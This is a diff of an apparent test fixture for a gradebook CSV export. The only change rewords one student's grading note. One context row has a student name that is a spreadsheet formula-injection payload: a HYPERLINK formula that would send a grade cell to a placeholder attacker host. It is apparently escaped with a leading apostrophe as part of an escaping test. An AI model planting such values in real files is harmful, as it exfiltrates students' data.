@@ -79,7 +79,7 @@ Student,ID,SIS User ID,SIS Login ID,Section,01_toy,02_toy,Notes
     Points Possible,,,,,5,4,
 "Lee, Ann",101,ann,,,4.5,4,
 bob,,bob,,,,,01_toy: late by 1 h 5 min; 01_toy: ex1_2 not graded by hand yet; total left blank; 02_toy: no submission
-"Ng, Cy",103,cy,,,,,01_toy: no submission; 02_toy: not graded (collected, not autograded)
+"Ng, Cy",103,cy,,,,,01_toy: no submission; 02_toy: not graded (collected but not autograded)
 "'=HYPERLINK(""https://evil.example/?g=""&F3,""Mallory""), Mal",104,mallory,,,5,,02_toy: no submission
 """
 
